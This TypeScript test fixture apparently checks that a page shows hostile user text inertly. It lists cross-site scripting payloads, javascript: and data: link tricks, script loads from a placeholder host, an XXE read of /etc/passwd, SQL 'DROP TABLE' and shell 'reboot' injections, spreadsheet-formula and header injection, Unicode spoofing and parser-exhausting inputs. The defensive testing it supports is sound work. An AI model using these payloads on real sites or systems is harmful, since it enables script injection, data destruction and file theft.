/** Called by every text below that would run if a page let it. Whoever shows the texts defines it on `window`. */
export const ALARM = "hostileTextRan";

/** No request may ever leave for this host, which does not exist. */
const FOREIGN_HOST = "hostile.invalid";

export type HostileText = {
  /** Unique, for a failure's message. */
  name: string;
  text: string;
};

const RUN = `${ALARM}()`;
const FOREIGN = `http://${FOREIGN_HOST}`;
const FENCE = "```";

const scripts: Record<string, string> = {
  "script element": `<script>${RUN}</script>`,
  "script in capitals, open": `<SCRIPT SRC=${FOREIGN}/x.js>`,
  "script with a slash for a space": `<script/src=${FOREIGN}/x.js></script>`,
  "script nested in itself": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  "script that leaves an attribute": `"><script>${RUN}</script>`,
  "script that leaves a single-quoted attribute": `' autofocus onfocus=${RUN} x='`,
  "script that leaves a script": `</script><script>${RUN}</script>`,
  "script that leaves a comment of the payload": `<!--<script>--></script><script>${RUN}</script>`,
  "script that leaves a textarea": `</textarea><script>${RUN}</script>`,
  "script that leaves a title": `</title><script>${RUN}</script>`,
  "script that leaves a style": `</style><script>${RUN}</script>`,
  "script that leaves a template": `</template><script>${RUN}</script>`,
  "script of type module": `<script type=module>import("${FOREIGN}/x.js")</script>`,
  "JSON that closes its script": `{"a":"</script><script>${RUN}</script>"}`,
  "payload of server components": `self.__next_f.push([1,"${RUN}"])</script><script>${RUN}//`,
  "line separators of JavaScript": `a\u2028${RUN}\u2029${RUN}`,
};

const handlers: Record<string, string> = {
  "image with onerror": `<img src=x onerror=${RUN}>`,
  "image with backquotes": `<img src=\`x\` onerror=\`${RUN}\`>`,
  "image from elsewhere": `<img src="${FOREIGN}/pixel.gif">`,
  "image set from elsewhere": `<picture><source srcset="${FOREIGN}/x.png"><img></picture>`,
  "body with onload": `<body onload=${RUN}>`,
  "details that toggle": `<details open ontoggle=${RUN}>x</details>`,
  "input with autofocus": `<input autofocus onfocus=${RUN}>`,
  "marquee with onstart": `<marquee onstart=${RUN}>x</marquee>`,
  "video source with onerror": `<video><source onerror=${RUN}></video>`,
  "transition handler": `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>x</b>`,
  "handler after a null character reference": `<img src=x onerror&#0;=${RUN}>`,
  "handler after a form feed": `<img\fsrc=x\fonerror=${RUN}>`,
};

const elements: Record<string, string> = {
  "svg with onload": `<svg onload=${RUN}>`,
  "svg with a script": `<svg><script>${RUN}</script></svg>`,
  "svg link": `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  "svg animation of a link": `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  "svg with foreign content": `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  "svg use from elsewhere": `<svg><use href="${FOREIGN}/x.svg#x"/></svg>`,
  "mathml link": `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  "mutation through noscript": `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  "mutation through a table": `<table><style><img src=x onerror=${RUN}></style></table>`,
  "frame with a document": `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  "frame with a script address": `<iframe src="javascript:parent.${RUN}"></iframe>`,
  "object from a data address": `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  "embed from elsewhere": `<embed src="${FOREIGN}/x.swf">`,
  "base from elsewhere": `<base href="${FOREIGN}/">`,
  "refresh to elsewhere": `<meta http-equiv=refresh content="0;url=${FOREIGN}/">`,
  "stylesheet from elsewhere": `<link rel=stylesheet href="${FOREIGN}/x.css">`,
  "style that imports": `<style>@import "${FOREIGN}/x.css";*{display:none!important}</style>`,
  "style attribute that fetches": `<div style="background:url(${FOREIGN}/x.png)">x</div>`,
  "form to elsewhere": `<form action="${FOREIGN}/"><button autofocus>x</button></form>`,
  "element with the name of a global": `<form id=document><input name=body><img name=getElementById></form>`,
  "comment left open": `<!-- everything after this `,
  "conditional comment": `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  "character data": `<![CDATA[<script>${RUN}</script>]]>`,
  "processing instruction": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
};

const links: Record<string, string> = {
  "link to a script": `[x](javascript:${RUN})`,
  "link to a script, mixed case": `[x](JaVaScRiPt:${RUN})`,
  "link to a script, in angle brackets": `[x](<javascript:${RUN}>)`,
  "link to a script, tab inside": `[x](<java\tscript:${RUN}>)`,
  "link to a script, by character references": `[x](&#x6A;avascript&colon;${RUN})`,
  "link to a script, by decimal references": `[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN})`,
  "link to a script, percent-encoded": `[x](javascript%3A${RUN})`,
  "link to a script, control character first": `[x](\u0001javascript:${RUN})`,
  "link to a script, behind a view of the source": `[x](view-source:javascript:${RUN})`,
  "link to a VBScript": `[x](vbscript:MsgBox(1))`,
  "link to a document of data": `[x](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlVGV4dFJhbigpPC9zY3JpcHQ+)`,
  "link to a blob": `[x](blob:${FOREIGN}/0)`,
  "link to a file": `[x](file:///etc/passwd)`,
  "link with a handler for a title": `[x](${FOREIGN}/ "onmouseover=${RUN} x=\\"")`,
  "link by reference": `[x][r]\n\n[r]: javascript:${RUN}`,
  "link by reference, defined by another's label": `[constructor]\n\n[constructor]: data:text/html,x`,
  "image link": `![x](${FOREIGN}/pixel.png)`,
  "image of data": `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhvc3RpbGVUZXh0UmFuKCkiLz4=)`,
  "image by reference": `![x][r]\n\n[r]: ${FOREIGN}/pixel.png`,
  "image whose text is a handler": `![" onerror="${RUN}](x)`,
  "link in a link": `[a [b](javascript:${RUN}) c](javascript:${RUN})`,
  "image in a link": `[![x](javascript:${RUN})](javascript:${RUN})`,
  "autolink to a script": `<javascript:${RUN}>`,
  "autolink to data": `<data:text/html,<script>${RUN}</script>>`,
  "bare address with markup": `${FOREIGN}/?"onmouseover="${RUN}"<b>`,
  "address without a scheme": `[x](//${FOREIGN}/)`,
  "address with credentials": `[x](http://parallax@${FOREIGN}/)`,
  "address with a backslash": `[x](http:\\\\${FOREIGN}\\x)`,
  footnote: `x[^1]\n\n[^1]: <script>${RUN}</script>`,
  "fence whose language is a handler": `${FENCE}js" onclick="${RUN}\n</code></pre><script>${RUN}</script>\n${FENCE}`,
};

const templates: Record<string, string> = {
  "template of several engines":
    "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} <%= 1 %> #{1} {%x%}",
  "template of React": `{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${RUN}"}}}`,
  "reference of server components": "$L1 $@2 $Sreact.fragment $undefined $D2026-01-01 $F1",
  SQL: `'); DROP TABLE incident_event; --`,
  "spreadsheet formula": `=HYPERLINK("${FOREIGN}/","x")`,
  shell: "$(reboot) `reboot` ; reboot | reboot && reboot",
  "log injection": "x\r\nSet-Cookie: a=b\r\n\r\n<script>" + RUN + "</script>",
  "terminal escapes": "\u001B[2J\u001B]0;x\u0007\u009B31m",
  "format string": "%s%n%x {0} %(x)s",
};

const names: Record<string, string> = {
  "name of the prototype": "__proto__",
  "name of the constructor": "constructor",
  "name of a method": "toString",
  "name of a check": "hasOwnProperty",
};

const scriptsOfTheWorld: Record<string, string> = {
  "right-to-left override": "invoice\u202Efdp.exe and what follows\u202C",
  "bidi isolates left open": "\u2066\u2067\u2068\u202A\u202B\u202Dleft open",
  "right-to-left text": "\u05E9\u05DC\u05D5\u05DD (a) [1] \u0645\u0631\u062D\u0628\u0627 50% <b>",
  "zero width": "a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf\u00ADg",
  "only zero width": "\u200B\u2060\u200B",
  "look-alikes": "p\u0430ypal \u0430dmin \u2044 \u2215 \uFF1Cscript\uFF1E",
  "many combining marks": `Z${"\u0351\u0489".repeat(2_000)}`,
  "a few combining marks": `Z${"\u0351\u0489".repeat(25)}`,
  "emoji in families": "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}".repeat(8),
  "tag characters": "x\u{E0068}\u{E0069}\u{E007F}",
  "outside the basic plane": "\u{10FFFD}\u{1D573}\u{20BB7}",
  "no character at all": "\uFFFE\uFFFF\uFDD0",
  "other line ends": "a\u0085b\u000Bc\u000Cd\re",
};

const shapes: Record<string, string> = {
  "a word without end": "W".repeat(200),
  "a very long word": "W".repeat(20_000),
  "deep quotes": `${">".repeat(2_000)} x`,
  "deep lists": Array.from({ length: 120 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
  "deep emphasis": `${"*".repeat(5_000)}x${"*".repeat(5_000)}`,
  "deep brackets": `${"[".repeat(5_000)}x${"]".repeat(5_000)}`,
  "deep elements": `${"<b>".repeat(3_000)}x`,
  "wide table": `|${"a|".repeat(400)}\n|${"-|".repeat(400)}\n|${"<i>|".repeat(400)}`,
  "long table": `|a|b|\n|-|-|\n${"|<b>x|y|\n".repeat(2_500)}`,
  "many headings": "# x\n".repeat(3_000),
  "many backquotes": "`".repeat(9_999),
  "many entities": "&amp;&lt;&NotExists;".repeat(1_500),
  "many references": "[x][r]".repeat(4_000) + "\n\n[r]: /x",
};

function named(texts: Record<string, string>): HostileText[] {
  return Object.entries(texts).map(([name, text]) => ({ name, text }));
}

/** What a person may paste and a page must show, as the words that they are. */
export const hostileTexts: readonly HostileText[] = [
  scripts,
  handlers,
  elements,
  links,
  templates,
  names,
  scriptsOfTheWorld,
  shapes,
].flatMap(named);

/** What cannot be kept as text and must be refused, wherever it is sent. */
export const unstorableTexts: readonly HostileText[] = named({
  NUL: "a\u0000b",
  "half a surrogate pair": "a\uD800b",
  "halves in the wrong order": "\uDC00\uD800",
});
